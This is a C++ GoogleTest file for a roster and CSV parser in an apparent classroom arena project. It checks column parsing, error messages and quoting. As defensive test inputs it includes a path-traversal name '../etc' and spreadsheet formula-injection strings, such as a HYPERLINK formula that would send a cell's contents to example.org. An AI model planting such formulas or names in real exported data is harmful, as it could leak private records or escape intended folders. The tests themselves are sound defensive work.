#include "arena/class/roster.h"

#include <gtest/gtest.h>

#include "arena/report/csv.h"

namespace zerosum {
namespace {

std::string complaint(std::string_view text) {
    const Result<std::vector<Person>> people = parse_roster(text);
    return people ? "nothing" : people.error().message;
}

TEST(Roster, ReadsColumnsInAnyOrderQuotedNamesAndRoles) {
    const auto people = parse_roster(
        "\xEF\xBB\xBF"
        "Nick,Name,Role\r\n"
        "enchantress,Ada Lovelace,\r\n"
        "\r\n"
        ",\"Turing, Alan \"\"Prof\"\"\"\r\n"
        "amazing,Grace Hopper,Staff\r\n");
    ASSERT_TRUE(people) << people.error().message;
    const std::vector<Person> expected = {{"Ada Lovelace", "enchantress"},
                                          {"Turing, Alan \"Prof\""},
                                          {"Grace Hopper", "amazing", "", true}};
    EXPECT_EQ(*people, expected);
    EXPECT_EQ(shown_name(people->at(0), Names::Nick), "enchantress");
    EXPECT_EQ(shown_name(people->at(0), Names::Name), "Ada Lovelace");
    EXPECT_EQ(shown_name(people->at(1), Names::Nick), "Turing, Alan \"Prof\"");
}

TEST(Roster, SaysWhatIsWrongAndWhere) {
    EXPECT_EQ(complaint(""),
              "found an empty file, expected a line with the columns and one per person");
    EXPECT_EQ(complaint("name\n"),
              "found nobody below the line with the columns, expected a line per person");
    EXPECT_EQ(complaint("Ada\nAlan\n").substr(0, 51),
              "line 1: found a column 'Ada', expected name and, wh");
    EXPECT_EQ(complaint("name;nick\n").substr(0, 35), "line 1: found a column 'name;nick',");
    EXPECT_EQ(complaint("nick\nada\n").substr(0, 31), "line 1: found no column 'name',");
    EXPECT_EQ(complaint("name,name\n"), "line 1: found two columns 'name', expected one");
    EXPECT_EQ(complaint("name,nick\n,ada\n"), "line 2: found no name, expected one");
    EXPECT_EQ(complaint("name\nTuring, Alan\n"),
              "line 2: found 2 fields, expected 1; a comma in a name needs quotes");
    EXPECT_EQ(complaint("name,role\nAda,boss\n"),
              "line 2: found the role 'boss', expected student, staff or nothing");
    EXPECT_EQ(complaint("name,nick\nAda,x\n\nAlan,ADA\n"),
              "line 4: found 'ADA', which line 2 has as well, expected another");
    // A folder and a player are called after each: blanks become "_" there.
    EXPECT_EQ(complaint("name,nick\nAda Lovelace,\nAlan,ada_lovelace\n"),
              "line 3: found 'ada_lovelace', which line 2 has as well, expected another");
    EXPECT_EQ(complaint("name\nAda_L\nAda L\n"),
              "line 3: found 'Ada L', which line 2 has as well (both play as Ada_L), expected "
              "another");
    EXPECT_EQ(complaint("name\n../etc\n"),
              "line 2: found the name '../etc', expected no slash in it and no dot before it");
    EXPECT_EQ(complaint("name\n\"a\nb\"\n"),
              "line 2: found the name 'a\\x0Ab', expected UTF-8 without control characters");
    EXPECT_EQ(complaint("name\n" + std::string(61, 'a')),
              "line 2: found a name of 61 bytes, expected up to 60");
    EXPECT_EQ(complaint("name\n\"Ada\n"),
              "line 2: found a quote without end, expected a second one");
    EXPECT_EQ(complaint("name\n\"Ada\"x\n"),
              "line 2: found 'x' behind a closing quote, expected a comma");
}

TEST(Csv, ReadsBackWhatIsQuoted) {
    const std::vector<std::string> fields = {"a,b", "c\"d", "e\nf", "", "plain"};
    std::string text;
    for (const std::string& field : fields) text += (text.empty() ? "" : ",") + quoted_csv(field);
    const auto rows = parse_csv("x\n" + text + "\nlast");
    ASSERT_TRUE(rows);
    ASSERT_EQ(rows->size(), 3U);
    EXPECT_EQ(rows->at(1).fields, fields);
    EXPECT_EQ(rows->at(2).line, 4);  // a field had a line's end in it
}

// What a hand-in prints stands in the gradebook: a spreadsheet must not compute it.
TEST(Csv, NothingIsAFormula) {
    for (const std::string begins : {"=", "+", "-", "@", "\t", "\r"}) {
        const std::string text = begins + "HYPERLINK(\"http://example.org/?\"&A2)";
        const auto rows = parse_csv(quoted_csv(text) + "," + quoted_csv(begins) + "\n");
        ASSERT_TRUE(rows);
        EXPECT_EQ(rows->at(0).fields, (std::vector<std::string>{"'" + text, "'" + begins}));
    }
    EXPECT_EQ(quoted_csv("a=b"), "a=b");
    EXPECT_EQ(quoted_csv(""), "");
}

}  // namespace
}  // namespace zerosum
